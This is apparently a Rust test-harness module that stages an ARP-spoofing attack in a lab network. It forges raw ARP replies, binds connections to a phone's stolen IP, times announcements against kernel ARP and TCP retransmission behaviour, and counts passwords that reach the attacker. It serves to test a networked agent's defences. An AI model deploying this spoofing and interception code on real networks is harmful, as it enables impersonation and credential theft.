//! An attacker on the link and the phone that it attacks, frame by frame. The phone answers ARP and nothing else, so that
//! it does not disturb connections in its name; the attacker has the phone's address beside its own, and says by ARP what
//! suits it.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use offhook::net::sys::on_link;
use socket2::{Domain, Protocol, SockAddr, SockRef, Socket, Type};

use crate::attack::has_secret;
use crate::lab::{self, Capture, Host};
use crate::release::{AT, FILE, MAC, SERVER, Site};

pub(crate) const ATTACKER: &str = "192.168.1.66";
pub(crate) const ATTACKER_MAC: &str = "02:66:66:66:66:66";
const ARP: u16 = 0x0806;
/// The agent listens for 50 ms, and its kernel takes no change of an entry within a second of the last one.
const SILENCES: [u64; 4] = [400, 60, 800, 90];
/// The second that the kernel takes no change, and the time after which TCP repeats for the third time.
const LISTENS: Duration = Duration::from_millis(1_500);

/// Frames of one's own making on the first interface of a host.
struct Wire {
    socket: Socket,
    to: SockAddr,
}

impl Wire {
    fn of(host: &Host) -> Self {
        host.inside(|| {
            let socket =
                Socket::new(Domain::PACKET, Type::RAW, Some(Protocol::from(i32::from(ARP.to_be())))).unwrap();
            socket.set_read_timeout(Some(Duration::from_millis(20))).unwrap();
            let index = nix::net::if_::if_nametoindex("eth0").unwrap();
            Self { socket, to: on_link(index, ARP, None) }
        })
    }

    /// An ARP answer from `from` to `to`: the phone's address is at `owner`.
    fn claim(&self, from: [u8; 6], to: [u8; 6], owner: [u8; 6]) {
        let phone = address(AT);
        let ours = address(SERVER);
        let frame = [&to[..], &from, &[8, 6, 0, 1, 8, 0, 6, 4, 0, 2], &owner, &phone, &to, &ours].concat();
        let _ = self.socket.send_to(&frame, &self.to);
    }

    /// Whom the next question for the phone's address comes from.
    fn question(&self) -> Option<[u8; 6]> {
        let mut frame = [0; 64];
        let length = (&self.socket).read(&mut frame).ok()?;
        let asks = length >= 42 && frame[20..22] == [0, 1] && frame[38..42] == address(AT);
        asks.then(|| frame[22..28].try_into().unwrap())
    }
}

fn address(text: &str) -> [u8; 4] {
    text.parse::<Ipv4Addr>().unwrap().octets()
}

pub(crate) fn octets(mac: &str) -> [u8; 6] {
    mac.parse::<offhook::device::Mac>().unwrap().octets()
}

/// Somebody who answers questions for the phone's address as long as it is told to.
struct Responder {
    on: Arc<AtomicBool>,
    over: Arc<AtomicBool>,
}

impl Responder {
    fn start(host: &Host, mac: &str) -> Self {
        let (wire, mac) = (Wire::of(host), octets(mac));
        let (on, over) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)));
        let (is_on, is_over) = (Arc::clone(&on), Arc::clone(&over));
        std::thread::spawn(move || {
            while !is_over.load(Ordering::SeqCst) {
                if let Some(asker) = wire.question()
                    && is_on.load(Ordering::SeqCst)
                {
                    wire.claim(mac, asker, mac);
                }
            }
        });
        Self { on, over }
    }

    fn set(&self, on: bool) {
        self.on.store(on, Ordering::SeqCst);
    }
}

impl Drop for Responder {
    fn drop(&mut self) {
        self.over.store(true, Ordering::SeqCst);
    }
}

/// The attack: the attacker's connections are made while the agent believes it to be the phone; the question whose
/// address it is is answered by the phone; and then the attacker says again that it is his own.
pub(crate) struct Rig {
    attacker: Host,
    wire: Wire,
    server: [u8; 6],
    phone: Responder,
    thief: Responder,
    spy: Capture,
    /// What its connections were told, by status; 0 is nothing.
    told: std::collections::BTreeMap<u16, usize>,
    stolen: usize,
}

impl Rig {
    /// Connections of one round.
    pub(crate) const AT_ONCE: usize = 60;

    pub(crate) fn set(site: &Site<'_>) -> Self {
        site.phone.ip(&["address", "flush", "dev", "eth0", "scope", "global"]);
        let attacker = site.lab.phone("attacker", ATTACKER_MAC, "lan", &format!("{ATTACKER}/24"));
        attacker.run(&["sysctl", "-qw", "net.ipv4.conf.eth0.arp_ignore=8"]);
        attacker.ip(&["address", "add", &format!("{AT}/32"), "dev", "eth0"]);
        let server = own_mac(site.agent.host());
        attacker.ip(&["neighbour", "replace", SERVER, "lladdr", &server, "dev", "eth0"]);
        Self {
            wire: Wire::of(&attacker),
            server: octets(&server),
            phone: Responder::start(&site.phone, MAC),
            thief: Responder::start(&attacker, ATTACKER_MAC),
            spy: attacker.capture(),
            attacker,
            told: std::collections::BTreeMap::new(),
            stolen: 0,
        }
    }

    /// One round of the attack, with [`Self::AT_ONCE`] requests. The attacker is silent while the agent asks whose the
    /// address is, longer or shorter, and then says that it is his own until what TCP repeats has come to him.
    pub(crate) fn round(&mut self, site: &Site<'_>, number: usize) {
        let mut streams = self.ask(site);
        silent(Duration::from_millis(SILENCES[number % SILENCES.len()]));
        self.announce(ATTACKER_MAC, LISTENS);
        self.listen(&mut streams);
    }

    /// The requests, all of them made by the attacker, and finished when the agent believes in the phone again.
    pub(crate) fn ask(&self, site: &Site<'_>) -> Vec<TcpStream> {
        self.thief.set(true);
        self.phone.set(false);
        site.agent.unpinned(AT);
        self.convince(site, ATTACKER_MAC);
        let mut streams: Vec<TcpStream> = (0..Self::AT_ONCE).map_while(|_| self.connect()).collect();
        assert_eq!(streams.len(), Self::AT_ONCE, "the agent believes the attacker");
        self.thief.set(false);
        self.phone.set(true);
        self.convince(site, MAC);
        for stream in &mut streams {
            let _ = stream.write_all(b"\r\n");
        }
        streams
    }

    /// Tells the agent's kernel where the phone's address is until it believes it, before the agent itself listens.
    pub(crate) fn convince(&self, site: &Site<'_>, owner: &str) {
        let known = || site.agent.neighbour(AT);
        // Without an entry there is nothing to change: the first question is answered.
        lab::poll("the kernel's belief", || {
            self.announce(owner, Duration::ZERO);
            (known().contains(owner) || !known().contains("lladdr")).then_some(())
        });
    }

    /// Says where the phone's address is, at once and then every few milliseconds for so long.
    pub(crate) fn announce(&self, owner: &str, during: Duration) {
        let attacker = octets(ATTACKER_MAC);
        for _ in 0..=during.as_millis() / 4 {
            self.wire.claim(attacker, self.server, octets(owner));
            if !during.is_zero() {
                silent(Duration::from_millis(4));
            }
        }
    }

    /// From now on the attacker answers questions for the address, and the phone does not.
    pub(crate) fn takes_over(&self) {
        self.phone.set(false);
        self.thief.set(true);
        self.announce(ATTACKER_MAC, LISTENS);
    }

    /// A connection in the phone's name that lacks the last line of its request.
    fn connect(&self) -> Option<TcpStream> {
        self.attacker.inside(|| {
            let socket = Socket::new(Domain::IPV4, Type::STREAM, None).unwrap();
            let from = SocketAddr::new(AT.parse::<IpAddr>().unwrap(), 0);
            socket.bind(&from.into()).unwrap();
            let server: SocketAddr = format!("{SERVER}:8480").parse().unwrap();
            socket.connect_timeout(&server.into(), Duration::from_millis(500)).ok()?;
            let mut stream = TcpStream::from(socket);
            stream.set_nodelay(true).unwrap();
            SockRef::from(&stream).set_linger(Some(Duration::ZERO)).unwrap();
            stream.write_all(format!("GET /{FILE} HTTP/1.1\r\n").as_bytes()).ok()?;
            Some(stream)
        })
    }

    /// What the connections are told.
    pub(crate) fn listen(&mut self, streams: &mut [TcpStream]) {
        for stream in streams {
            stream.set_read_timeout(Some(Duration::from_millis(2))).unwrap();
            let mut answer = vec![0; 16_384];
            let length = stream.read(&mut answer).unwrap_or(0);
            let status = std::str::from_utf8(answer.get(9..12).unwrap_or_default()).unwrap_or_default();
            *self.told.entry(if length == 0 { 0 } else { status.parse().unwrap_or(0) }).or_default() += 1;
            self.stolen += usize::from(has_secret(&answer[..length]));
        }
    }

    /// Passwords that reached the attacker, in whatever frame.
    pub(crate) fn secrets(&self) -> usize {
        self.stolen
            + self.spy.count(|packet| packet.target_mac == ATTACKER_MAC && has_secret(&packet.payload))
    }

    pub(crate) fn heard(&self) -> &std::collections::BTreeMap<u16, usize> {
        &self.told
    }

    /// The attack is over, and the phone speaks for itself.
    pub(crate) fn end(self, site: &Site<'_>) {
        self.attacker.ip(&["link", "set", "eth0", "down"]);
        drop(self);
        site.phone.ip(&["address", "add", &format!("{AT}/24"), "dev", "eth0"]);
        lab::poll("the phone's way to the agent", || {
            site.phone.attempt(&["curl", "-s", "-m", "2", SERVER]).1.is_empty().then_some(())
        });
        site.agent.unpinned(AT);
    }
}

/// The attacker says nothing for so long. Nothing can be awaited: what it waits for happens elsewhere.
pub(crate) fn silent(during: Duration) {
    let (_held, never) = std::sync::mpsc::channel::<()>();
    let _ = never.recv_timeout(during);
}

/// The MAC of a host's first interface.
pub(crate) fn own_mac(host: &Host) -> String {
    let link = host.ip(&["-o", "link", "show", "eth0"]);
    let mac = link.split_once("link/ether ").and_then(|(_, rest)| rest.split(' ').next());
    mac.unwrap_or_else(|| panic!("{link}")).to_owned()
}
